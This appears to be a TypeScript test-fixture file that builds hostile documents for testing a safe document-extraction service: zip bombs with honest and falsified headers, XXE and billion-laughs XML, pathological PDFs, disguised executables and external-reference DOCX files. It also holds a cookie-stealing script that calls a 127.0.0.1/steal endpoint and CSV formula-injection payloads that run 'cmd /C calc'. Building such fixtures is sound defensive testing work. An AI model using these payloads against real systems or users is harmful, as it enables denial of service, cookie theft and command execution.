/**
 * The hostile corpus for knowledge extraction, made at test time: zip bombs (honest and lying
 * headers), XML entity attacks, pathological PDFs, spoofed file types, external references and
 * spreadsheet formula injection. Each builder says what a safe extractor must do with it.
 */
import {
  buildDocxArchive,
  buildRawPdf,
  buildXlsxArchive,
  escapeXml,
  paragraph,
  pdfHelveticaFont,
  pdfTextStream,
  repeatedContent,
  zipArchive,
} from './document-fixtures.ts';

const mebibyte = 1024 * 1024;
const documentStart =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>';
const documentEnd = '</w:t></w:r></w:p></w:body></w:document>';
const sheetStart =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>';
const sheetEnd = '</t></is></c></row></sheetData></worksheet>';

/** A DOCX whose document part honestly declares `size` bytes (300 MiB) of spaces: too large to unpack. */
export function buildZipBombDocx(size = 300 * mebibyte): Promise<Buffer> {
  return buildDocxArchive('', {
    documentXml: repeatedContent(documentStart, size, documentEnd),
    compressionLevel: 9,
  });
}

/** An XLSX whose sheet is `size` bytes (100 MiB) of spaces compressed about 1000:1: a ratio bomb. */
export function buildZipBombXlsx(size = 100 * mebibyte): Promise<Buffer> {
  return buildXlsxArchive(repeatedContent(sheetStart, size, sheetEnd), {}, 9);
}

/**
 * A DOCX whose central directory (and local header) claims its 64 MiB document part is 1,000
 * bytes: only counting the bytes as they inflate catches it.
 */
export async function buildLyingZipBombDocx(size = 64 * mebibyte): Promise<Buffer> {
  const archive = await buildDocxArchive('', {
    documentXml: repeatedContent(documentStart, size, documentEnd),
    compressionLevel: 9,
  });
  return declareEntrySize(archive, 'word/document.xml', 1_000);
}

/** The XLSX counterpart of `buildLyingZipBombDocx`, lying about its sheet. */
export async function buildLyingZipBombXlsx(size = 64 * mebibyte): Promise<Buffer> {
  const archive = await buildXlsxArchive(repeatedContent(sheetStart, size, sheetEnd), {}, 9);
  return declareEntrySize(archive, 'xl/worksheets/sheet1.xml', 1_000);
}

/** Rewrites the uncompressed size that a ZIP's directory and local header give for `name`. */
export function declareEntrySize(archive: Buffer, name: string, uncompressedSize: number): Buffer {
  const patched = Buffer.from(archive);
  const end = patched.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let offset = patched.readUInt32LE(end + 16);
  for (let entry = 0; entry < patched.readUInt16LE(end + 10); entry++) {
    const nameLength = patched.readUInt16LE(offset + 28);
    const entryName = patched.toString('utf8', offset + 46, offset + 46 + nameLength);
    if (entryName === name) {
      patched.writeUInt32LE(uncompressedSize, offset + 24);
      const localHeader = patched.readUInt32LE(offset + 42);
      patched.writeUInt32LE(uncompressedSize, localHeader + 22);
      return patched;
    }
    offset += 46 + nameLength + patched.readUInt16LE(offset + 30) + patched.readUInt16LE(offset + 32);
  }
  throw new Error(`no entry ${name} in the archive`);
}

/** A DOCX whose document declares an external entity reading `target` (a file or URL) into its text. */
export function buildXxeDocx(target: string): Promise<Buffer> {
  const document =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
    `<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "${escapeXml(target)}">]>` +
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' +
    '<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>';
  return buildDocxArchive('', { documentXml: document });
}

/** An XLSX whose shared strings expand ten levels of ten entities: a billion "lol"s. */
export function buildBillionLaughsXlsx(): Promise<Buffer> {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let level = 1; level <= 9; level++) {
    entities.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
  }
  const sharedStrings =
    '<?xml version="1.0" encoding="UTF-8"?>' +
    `<!DOCTYPE sst [${entities.join('')}]>` +
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>';
  const sheet =
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
    '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>';
  return buildXlsxArchive(sheet, { 'xl/sharedStrings.xml': sharedStrings });
}

/** A one-page PDF whose page dictionary and content stream hold arrays nested `depth` (100,000) deep. */
export function buildDeeplyNestedPdf(depth = 100_000): Buffer {
  const nested = `${'['.repeat(depth)}${']'.repeat(depth)}`;
  const content = `BT /F1 12 Tf 72 720 Td (Nested) Tj ET ${nested} pop`;
  return buildRawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Nested ${nested} >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    pdfHelveticaFont,
  ]);
}

/**
 * A PDF with 10^`levels` (ten million) real pages in a few objects: each node of its page tree
 * lists the node below it ten times, down to one shared page. Reading every page would take hours.
 */
export function buildHugePageCountPdf(levels = 7): Buffer {
  // Object 2 is the root of the tree, 2 + levels - 1 its lowest node, then the page and its parts.
  const page = 2 + levels;
  const nodes = Array.from({ length: levels }, (_, depth) => {
    const kid = depth === levels - 1 ? page : 3 + depth;
    const parent = depth === 0 ? '' : ` /Parent ${1 + depth} 0 R`;
    return `<< /Type /Pages${parent} /Kids [${`${kid} 0 R `.repeat(10).trim()}] /Count ${10 ** (levels - depth)} >>`;
  });
  return buildRawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    ...nodes,
    `<< /Type /Page /Parent ${1 + levels} 0 R /MediaBox [0 0 612 792] /Contents ${page + 1} 0 R /Resources << /Font << /F1 ${page + 2} 0 R >> >> >>`,
    pdfTextStream('One page, listed ten million times'),
    pdfHelveticaFont,
  ]);
}

/** A one-page PDF whose page tree claims `count` (ten million) pages: a lie pdf.js sees through. */
export function buildLyingPageCountPdf(count = 10_000_000): Buffer {
  return buildRawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [3 0 R] /Count ${count} >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    pdfTextStream('One real page'),
    pdfHelveticaFont,
  ]);
}

/** The start of a Linux executable (ELF header), to be named `.pdf` or `.docx`. */
export function buildElfExecutable(): Buffer {
  const header = Buffer.alloc(4096);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01]).copy(header);
  return header;
}

/** The start of a Windows executable ("MZ" and a PE header), to be named `.pdf` or `.docx`. */
export function buildWindowsExecutable(): Buffer {
  const header = Buffer.alloc(4096);
  header.write('MZ', 0, 'latin1');
  header.writeUInt32LE(0x80, 0x3c);
  header.write('PE\0\0', 0x80, 'latin1');
  return header;
}

/** An HTML page with a script, to be named `.pdf`. */
export function buildHtmlPage(): string {
  return '<!DOCTYPE html><html><body><script>fetch("http://127.0.0.1/steal?c=" + document.cookie)</script></body></html>';
}

/**
 * A DOCX showing an image linked (not embedded) from `url`, with a hyperlink and a remote template
 * to the same host: a reader that follows any of them makes a request to it.
 */
export function buildExternalImageDocx(url: string): Promise<Buffer> {
  const drawing =
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="1" name="Picture 1" descr="linked"/>' +
    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>' +
    '<pic:nvPicPr><pic:cNvPr id="1" name="x.png"/><pic:cNvPicPr/></pic:nvPicPr>' +
    '<pic:blipFill><a:blip r:link="rIdImage"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>' +
    '</wp:inline></w:drawing></w:r></w:p>';
  const link = '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>See the site</w:t></w:r></w:hyperlink></w:p>';
  return buildDocxArchive(`${paragraph('A document with a linked picture.')}${drawing}${link}`, {
    relationships: [
      { id: 'rIdImage', type: 'image', target: `${url}/x.png`, external: true },
      { id: 'rIdLink', type: 'hyperlink', target: `${url}/page`, external: true },
      { id: 'rIdTemplate', type: 'attachedTemplate', target: `${url}/template.dotm`, external: true },
    ],
  });
}

/** A CSV whose cells a spreadsheet would run as formulas, and one plain negative number (-3.5). */
export function buildFormulaInjectionCsv(): string {
  return [
    'name,comment,amount',
    'Alice,"=HYPERLINK(""http://127.0.0.1/x"",""click"")",-3.5',
    "Bob,+cmd|' /C calc'!A0,12",
    "Carol,@SUM(1+1)*cmd|' /C calc'!A0,+4",
    'Dan,"-2+3+cmd|\' /C calc\'!A0",7',
  ].join('\n');
}

/** A ZIP holding nothing an Office reader knows, to be named `.docx`. */
export function buildPlainZip(): Promise<Buffer> {
  return zipArchive({ 'readme.txt': 'just a zip' });
}
